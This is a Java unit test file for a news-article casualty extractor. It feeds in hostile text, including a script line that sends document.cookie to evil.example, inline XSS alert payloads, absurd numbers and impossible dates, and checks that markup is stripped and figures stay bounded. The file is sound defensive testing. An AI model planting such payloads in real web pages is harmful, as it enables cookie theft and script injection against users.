package org.sitrep.extract;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import java.util.List;

import com.fasterxml.jackson.databind.ObjectMapper;
import org.junit.jupiter.api.Test;
import org.sitrep.output.JsonOutput;
import org.sitrep.schema.Claim;
import org.sitrep.schema.EventReport;
import org.sitrep.testing.Fixtures;

/**
 * Hostile article text through the extractor: markup, absurd numbers, far-future dates. The extractor must not throw,
 * must not keep markup in what it extracts, and must not turn noise into casualty figures.
 */
class HostileTextTest {
    private final Extractor extractor = new Extractor();

    private List<EventReport> extract(String body) {
        return extractor.extract(Fixtures.article("h1", "2023-01-12T10:00:00Z", body));
    }

    private static List<Claim> claims(List<EventReport> reports) {
        return reports.stream().flatMap(r -> r.getClaims().stream()).toList();
    }

    @Test
    void scriptAndTagsAreDroppedFromWhatIsExtracted() throws Exception {
        String body = "<p>At least 12 soldiers were killed on Tuesday near Macina, the army said.</p>"
            + "<script>document.location='https://evil.example/?c='+document.cookie; /* 40 soldiers were killed */</script>"
            + "<p onclick=\"alert(1)\">Officers said <b>14</b> soldiers <img src=x onerror=alert(2)>were killed.</p>"
            + "<style>p{}</style><iframe src=javascript:alert(3)></iframe>&lt;script&gt;alert(4)&lt;/script&gt;";
        List<EventReport> reports = extract(body);
        assertThat(reports).isNotEmpty();
        List<Claim> claims = claims(reports);
        assertThat(claims).isNotEmpty();
        assertThat(claims).extracting(Claim::getKilled).doesNotContain(40);
        for (Claim c : claims) {
            assertThat(c.getSentence()).doesNotContain("<script", "onerror", "onclick", "<p", "<b>", "document.cookie");
        }
        // Whatever text does come through (entities decode to '<'), the output JSON escapes it and round-trips.
        for (EventReport r : reports) {
            String line = JsonOutput.line(JsonOutput.report(r));
            assertThat(line).doesNotContain("<", ">");
            assertThat(new ObjectMapper().readTree(line).get("report_id").asText()).isEqualTo(r.getReportId());
        }
        var node = JsonOutput.object().put("sentence", "</script><script>alert('x')</script> & more");
        String json = JsonOutput.line(node);
        assertThat(json).doesNotContain("<", ">", "'", "&");
        assertThat(new ObjectMapper().readTree(json).get("sentence").asText())
            .isEqualTo("</script><script>alert('x')</script> & more");
    }

    @Test
    void absurdNumbersAreNotReadAsCasualties() {
        for (String figure : List.of("1e400", "1000000000000", "1,000,000,000,000", "99999999999999999999999",
            "2147483648", "-5", "NaN", "Infinity", "0x7fffffff", "1.5e3")) {
            String body = "Attackers ambushed a convoy near Macina on Tuesday and " + figure
                + " soldiers were killed, the army said.";
            List<EventReport> reports = assertNoThrow(body);
            assertThat(claims(reports)).as(figure).allSatisfy(c -> {
                if (c.getKilled() != null) {
                    assertThat(c.getKilled()).as(figure).isBetween(0, NumberParser.MAX_VALUE);
                }
                if (c.getInjured() != null) {
                    assertThat(c.getInjured()).as(figure).isBetween(0, NumberParser.MAX_VALUE);
                }
            });
        }
        assertThat(claims(extract("An ambush near Macina on Tuesday: 1000000000000 soldiers were killed.")))
            .extracting(Claim::getKilled).doesNotContain(Integer.MAX_VALUE).allMatch(k -> k == null || k <= NumberParser.MAX_VALUE);
    }

    @Test
    void datesInTheYear9999AndOtherNonsenseDoNotBreakDateResolution() {
        for (String date : List.of("on 31 December 9999", "le 31 décembre 9999", "on 9999-12-31", "on 32 January 2023",
            "on 29 February 2023", "on 0 March 2023", "in the year 99999999999", "on Tuesday 1 January 0000")) {
            List<EventReport> reports = assertNoThrow("Gunmen killed 5 villagers near Macina " + date + ", officials said.");
            for (EventReport r : reports) {
                assertThat(r.getEventDate().getYear()).as(date).isBetween(1990, 2100);
            }
        }
    }

    @Test
    void emptyAndDegenerateBodiesGiveNoReports() {
        for (String body : List.of("", " ", "\u0000", "\uFFFD\uFFFD", "<", "<<<<>>>>", "&#0;&#x110000;&#99999999;",
            "killed ".repeat(50_000), ".".repeat(200_000), "\uD800", "a\u202Eb\u200B")) {
            assertThatCode(() -> extract(body)).as(body.length() > 20 ? body.substring(0, 20) : body).doesNotThrowAnyException();
        }
    }

    private List<EventReport> assertNoThrow(String body) {
        List<EventReport>[] out = new List[1];
        assertThatCode(() -> out[0] = extract(body)).as(body).doesNotThrowAnyException();
        return out[0];
    }
}
